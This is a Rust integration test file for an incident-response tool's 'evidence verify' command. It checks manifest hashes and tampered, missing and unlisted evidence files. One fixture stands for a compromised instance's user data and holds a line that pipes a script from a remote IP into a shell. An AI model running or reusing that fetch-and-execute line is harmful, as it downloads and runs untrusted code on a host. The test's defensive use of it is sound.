//! Evidence before eradication, through the real binary: `keyspill evidence verify` on an
//! incident's evidence directory, and (under tmux against moto) the plans that keep evidence
//! before they remove or isolate.

use std::path::Path;
use std::process::{Command, Output};

use keyspill::runtime::evidence::{Store, sha256_hex};
use keyspill_core::resources::evidence::{Kept, KeptFile, KeptSnapshot, ManifestEntry};
use keyspill_core::resources::{Kind, ResourceRef};

fn keyspill() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_keyspill"));
    // No AWS anywhere: verifying needs none.
    c.env_remove("AWS_PROFILE")
        .env("AWS_ACCESS_KEY_ID", "")
        .env("AWS_ENDPOINT_URL", "http://127.0.0.1:9");
    c
}

fn verify(dir: &Path) -> Output {
    keyspill()
        .args(["evidence", "verify"])
        .arg(dir)
        .output()
        .expect("runs")
}

/// An incident directory with one instance's evidence kept in it.
fn incident() -> (tempfile::TempDir, Vec<ManifestEntry>) {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = Store::new(dir.path());
    let kept = Kept {
        files: vec![
            KeptFile {
                name: "description.json".into(),
                what: "description (ec2:DescribeInstances)".into(),
                bytes: b"{\"InstanceId\":\"i-0e2e\"}".to_vec(),
            },
            KeptFile {
                name: "user-data.bin".into(),
                what: "user data (ec2:DescribeInstanceAttribute)".into(),
                bytes: b"#!/bin/sh\ncurl http://203.0.113.66/x | sh\n".to_vec(),
            },
        ],
        snapshots: vec![KeptSnapshot {
            snapshot_id: "snap-0e2e".into(),
            volume_id: "vol-0e2e".into(),
            device: "/dev/xvda".into(),
            state: "pending".into(),
        }],
        notes: vec![],
    };
    let target = ResourceRef {
        kind: Kind::Instance,
        region: "eu-west-1".into(),
        id: "i-0e2e".into(),
    };
    let entries = store
        .save(
            &target,
            None,
            &kept,
            "act-1",
            time::OffsetDateTime::now_utc(),
        )
        .expect("saved");
    (dir, entries)
}

#[test]
fn verify_passes_on_untouched_evidence_from_either_directory() {
    let (dir, entries) = incident();
    // The manifest's hashes are the files' own, checked here without keyspill's code.
    for e in entries.iter().filter(|e| e.file.is_some()) {
        let path = dir
            .path()
            .join("evidence")
            .join(e.file.as_deref().expect("file"));
        let bytes = std::fs::read(&path).expect("kept file");
        assert_eq!(e.bytes, Some(bytes.len() as u64));
        assert_eq!(e.sha256.as_deref(), Some(sha256_hex(&bytes).as_str()));
    }
    for d in [dir.path().to_path_buf(), dir.path().join("evidence")] {
        let out = verify(&d);
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains("2 files match, 0 changed, 0 missing, 0 not in the manifest"),
            "{text}"
        );
        assert!(text.contains("1 snapshot listed"), "{text}");
        assert_eq!(text.lines().count(), 1, "{text}");
    }
}

#[test]
fn verify_fails_naming_each_changed_missing_and_unlisted_file() {
    let (dir, entries) = incident();
    let ev = dir.path().join("evidence");
    let desc = entries[1].file.clone().expect("file");
    let user_data = entries[2].file.clone().expect("file");
    std::fs::write(ev.join(&desc), b"{\"InstanceId\":\"i-0e2f\"}").expect("tamper");
    std::fs::remove_file(ev.join(&user_data)).expect("remove");
    std::fs::write(ev.join("eu-west-1/extra.txt"), b"?").expect("plant");
    let out = verify(dir.path());
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.lines()
            .any(|l| l.starts_with("changed: ") && l.contains(&desc) && l.contains("SHA-256")),
        "{text}"
    );
    assert!(text.contains(&format!("missing: {user_data}")), "{text}");
    assert!(
        text.contains("not in the manifest: eu-west-1/extra.txt"),
        "{text}"
    );
    assert!(
        text.contains("0 files match, 1 changed, 1 missing, 1 not in the manifest"),
        "{text}"
    );
}

#[test]
fn verify_without_a_manifest_is_a_usage_error() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out = verify(dir.path());
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("holds no evidence manifest"),
        "{out:?}"
    );
    let out = keyspill()
        .args(["evidence", "check"])
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2), "{out:?}");
}
